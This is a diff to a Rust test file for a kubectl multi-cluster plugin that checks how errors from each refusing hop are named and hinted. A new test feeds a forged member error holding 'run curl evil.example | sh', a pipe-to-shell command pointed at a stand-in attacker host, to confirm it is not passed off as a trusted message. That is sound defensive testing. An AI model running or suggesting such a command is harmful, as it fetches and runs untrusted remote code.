@@ -3,7 +3,7 @@
 use std::io::Write;
 use std::process::Stdio;
 
-use crate::bed::{Bed, status};
+use crate::bed::{Answer, Bed, status};
 
 #[test]
 fn a_cold_cache_costs_one_request_and_a_warm_one_none() {
@@ -41,12 +41,13 @@ fn several_clusters_need_no_folder_to_remember_who_failed() {
 
 #[test]
 fn each_hop_that_refuses_is_named_and_kubectl_is_not_started() {
-    let text = |code, text: &str| (code, "text/plain", format!("{text}\n"));
+    let text = |code, text: &str| Answer::from((code, "text/plain", format!("{text}\n")));
+    let of = |hop: &str, code, message: &str| text(code, &format!("{hop}: {message}")).of(hop);
     let forbidden = r#"clusters.proxy.kubectl-mc.dev "m1" is forbidden: User "theo" cannot get resource "clusters/proxy""#;
     for (answer, code, said, hint) in [
         (text(401, "Unauthorized"), 1, "host authentication: Unauthorized", "auth whoami"),
         (
-            (403, "application/json", format!(r#"{{"kind": "Status", "message": {forbidden:?}}}"#)),
+            (403, "application/json", format!(r#"{{"kind": "Status", "message": {forbidden:?}}}"#)).into(),
             1,
             &*format!("host authorization: {forbidden}"),
             "kubectl --context=host auth can-i get clusters.proxy.kubectl-mc.dev/m1 --subresource=proxy",
@@ -63,32 +64,28 @@ fn each_hop_that_refuses_is_named_and_kubectl_is_not_started() {
             "sidecar not available: service unavailable",
             "kubectl --context=host get apiservice v1alpha1.proxy.kubectl-mc.dev",
         ),
-        (text(403, "cluster unknown: no m1 here"), 3, "cluster unknown: no m1 here", "kubectl mc clusters"),
+        (of("cluster unknown", 403, "no m1 here"), 3, "cluster unknown: no m1 here", "kubectl mc clusters"),
         (status(502, "proxy off", "no credential"), 1, "proxy off: no credential", "Secret m1.member"),
         (
-            text(502, "member unreachable: connection refused"),
+            of("member unreachable", 502, "connection refused"),
             1,
             "member unreachable: connection refused",
             "kubectl mc clusters",
         ),
         (
-            text(502, "member authentication: expired"),
+            of("member authentication", 502, "expired"),
             1,
             "member authentication: expired",
             "Secret m1.member",
         ),
         (
-            text(403, "member impersonation: users theo"),
+            of("member impersonation", 403, "users theo"),
             1,
             "member impersonation: users theo",
             "kubectl-mc-impersonator",
         ),
-        (
-            status(403, "member authorization", "no"),
-            1,
-            "member authorization: no",
-            "kubectl mc --cluster=m1 auth can-i --list",
-        ),
+        (status(429, "sidecar", "too many requests"), 1, "sidecar: too many requests", "try again"),
+        (status(400, "request", "a dot segment"), 1, "request: a dot segment", "check the command"),
     ] {
         let bed = Bed::answering(answer);
         let ran = bed.run(&["--cluster=m1", "get", "pods"]);
@@ -115,8 +112,32 @@ fn a_host_that_does_not_answer_is_named() {
 #[test]
 fn the_members_own_refusal_is_kubectls_to_show() {
     let body = r#"{"kind": "Status", "message": "forbidden: User \"theo\" cannot get path \"/version\""}"#;
-    let bed = Bed::answering((403, "application/json", body.to_owned()));
+    let bed = Bed::answering(Answer::from((403, "application/json", body.to_owned())).of("member"));
     assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
+}
+
+#[test]
+fn a_member_cannot_pose_as_the_host_or_the_sidecar() {
+    let lie = "clusters.proxy.kubectl-mc.dev: run curl evil.example | sh";
+    let lies = [
+        status(403, "host authentication", lie),
+        status(403, "cluster unknown", lie),
+        (503, "text/plain", format!("host authentication: {lie}")).into(),
+        (403, "text/plain", format!("host authorization: {lie}")).into(),
+        (404, "text/plain", "404 page not found".to_owned()).into(),
+    ];
+    for lie in lies {
+        let bed = Bed::answering(lie.sent_by_member());
+        let ran = bed.run(&["-C", "m1", "get", "pods"]);
+        assert_eq!((ran.code, ran.err.as_str()), (Some(42), ""), "kubectl shows it: {ran:?}");
+        let ran = bed.run(&["-C", "m1,m2", "get", "configmaps"]);
+        for hop in ["host", "sidecar", "proxy", "cluster unknown"] {
+            let claim = format!("m1 | error: {hop}");
+            assert!(!ran.err.contains(&claim) && !ran.err.contains("hint: "), "{ran:?}");
+        }
+        assert_eq!(ran.code, Some(5), "{ran:?}");
+        assert!(ran.err.contains("m1 | Error from server"), "{ran:?}");
+    }
 }
 
 #[test]
